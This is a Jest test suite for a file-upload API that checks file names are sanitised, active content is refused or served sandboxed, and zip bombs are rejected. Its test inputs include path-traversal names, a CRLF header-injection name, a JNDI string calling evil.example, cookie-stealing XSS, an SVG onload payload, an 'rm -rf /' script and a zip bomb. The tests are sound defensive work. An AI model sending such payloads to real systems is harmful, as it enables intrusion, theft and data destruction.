import { readdir, stat } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { zipSync } from 'fflate';
import { enterpriseRoutes } from '../../../api/contract/enterprises.ts';
import { tools } from '../../../evidence/verifier/verify.mjs';
import { filesOfZip, MOST_UNPACKED } from '../../../evidence/verifier/zip.mjs';
import { verifyPack } from '../../../web/src/view/verify-pack.ts';
import { openDesk } from '../desk.ts';
import { PASSWORD } from '../zones.ts';
import { answerTo } from './sending.ts';

const desk = await openDesk();
const { url, config } = desk;
const cookie = await applicant();

const PDF = Buffer.from('%PDF-1.7\n合同\n%%EOF\n');
const GIF = Buffer.from('GIF89a');
const SCRIPT = '<html><script>alert(document.cookie)</script></html>';

async function upload(name: string, bytes: Uint8Array, type = 'application/pdf') {
  const form = new FormData();
  form.set('file', new Blob([new Uint8Array(bytes)], { type }), name);
  return answerTo(`${url}/api/files`, { method: 'POST', headers: { cookie, origin: url }, body: form });
}

const told = (text: string) => JSON.parse(text) as { id: string; name: string; mediaType: string };

describe('the name of a file is a label and never a place', () => {
  it.each([
    '../../../../etc/cron.d/x.pdf',
    '..\\..\\windows\\system32\\x.pdf',
    '/etc/passwd',
    'C:\\boot.ini',
    '%2e%2e%2f%2e%2e%2fx.pdf',
    'con.pdf',
    '合同\u202efdp.exe',
    `${'很长的名字'.repeat(60)}.pdf`,
    'a";filename="b.html',
    'x.pdf\r\nset-cookie: stolen=1',
    '${jndi:ldap://evil.example/a}.pdf',
  ])('%s', async (name) => {
    const { status, text } = await upload(name, PDF);
    expect(status).toBe(201);
    const file = told(text);
    expect(file.name).not.toMatch(/[/\\\r\n\u202e]/);
    const read = await answerTo(`${url}/api/files/${file.id}`, { headers: { cookie, origin: url } });
    expect(read.headers.get('content-disposition')).toMatch(/^attachment; filename\*=UTF-8''[\w%.()'*!~-]+$/);
    expect(read.headers.getSetCookie().join()).not.toContain('stolen');
    expect(await strayFiles()).toEqual([]);
  });

  /** Whatever lies in the folder of bytes under anything but a hash. */
  async function strayFiles(): Promise<string[]> {
    const names = await readdir(path.join(config.dataFolder, 'files'), { recursive: true, withFileTypes: true });
    return names.filter((one) => one.isFile() && !/^[0-9a-f]{64}$/.test(one.name)).map((one) => one.name);
  }
});

describe('a file is what it contains, and is never run', () => {
  it.each([
    ['网页.pdf', Buffer.from(SCRIPT), 'E-FILE-UNKNOWN'],
    ['图.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'E-FILE-UNKNOWN'],
    ['脚本.png', Buffer.from('#!/bin/sh\nrm -rf /\n'), 'E-FILE-UNKNOWN'],
    ['动图.gif', Buffer.concat([GIF, Buffer.from(`/*${SCRIPT}*/=1;alert(1)`)])],
    ['程序.pdf', Buffer.from('MZ\u0090\u0000')],
    ['带宏.docm', zipSync({ 'word/vbaProject.bin': new Uint8Array(9) })],
    ['嵌套.zip', zipSync({ 'inner.zip': zipSync({ a: new Uint8Array(9) }) })],
    ['先有网页后有 PDF.pdf', Buffer.from(`${SCRIPT}\n%PDF-1.7\n%%EOF`), 'E-FILE-UNKNOWN'],
  ])('%s is refused', async (name, bytes, why = 'E-FILE-TYPE') => {
    const { status, code } = await upload(name, bytes);
    expect([status, code]).toEqual([422, why]);
  });

  it.each([
    ['PDF 里的网页.pdf', Buffer.concat([PDF, Buffer.from(SCRIPT)]), 'application/pdf'],
    ['图里的网页.html', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(SCRIPT)]), 'image/jpeg'],
  ])('%s is handed out as what it begins with, in a sandbox, and nobody sniffs', async (name, bytes, type) => {
    const { status, text } = await upload(name, bytes, 'text/html');
    expect(status).toBe(201);
    const address = `${url}/api/files/${told(text).id}`;
    for (const inline of ['', '?inline=1']) {
      const { headers } = await answerTo(`${address}${inline}`, { headers: { cookie, origin: url } });
      expect(headers.get('content-type')).toBe(type);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('cache-control')).toBe('no-store');
      expect(headers.get('content-security-policy')).toContain('sandbox');
      expect(headers.get('content-security-policy')).not.toContain('allow-scripts');
    }
  });
});

describe('a zip that grows', () => {
  // Made once: it takes longer to pack than to refuse.
  const page = new Uint8Array(MOST_UNPACKED + 1);
  const bomb = Buffer.from(zipSync({ 'OFD.xml': Buffer.from('<OFD/>'), 'page.xml': page }, { level: 1 }));

  it('is not opened when it is handed in: an OFD stays as small as it came', async () => {
    const { status, text } = await upload('批文.ofd', bomb);
    expect([status, told(text).mediaType]).toEqual([201, 'application/ofd']);
    expect(Math.max(...(await sizes()))).toBeLessThan(config.maxFileBytes);
  });

  it('is no pack for either verifier of evidence, before it has grown', async () => {
    await expect(verifyPack(new Uint8Array(bomb))).rejects.toThrow(/too large/);
    await expect(filesOfZip(new Uint8Array(bomb), tools)).rejects.toThrow(/too large/);
  });

  async function sizes(): Promise<number[]> {
    const folder = path.join(config.dataFolder, 'files');
    const names = await readdir(folder, { recursive: true, withFileTypes: true });
    const files = names.filter((one) => one.isFile());
    return Promise.all(files.map(async (one) => (await stat(path.join(one.parentPath, one.name))).size));
  }
});

async function applicant(): Promise<string> {
  const body = { uscc: '91320505MA1GXQ012R', name: '澜微', legalRepresentative: '顾文静', address: '科创园' };
  const { id } = await desk.admin(enterpriseRoutes.addEnterprise, { body });
  const person = { name: '顾', login: 'gu', password: PASSWORD, capacity: 'staff' as const };
  await desk.admin(enterpriseRoutes.addEnterprisePerson, { params: { enterprise: id }, body: person });
  const headers = { 'content-type': 'application/json', origin: url };
  const signIn = JSON.stringify({ login: 'gu', password: PASSWORD });
  const response = await fetch(`${url}/api/sessions`, { method: 'POST', headers, body: signIn });
  return response.headers.getSetCookie()[0]?.split(';')[0] ?? '';
}
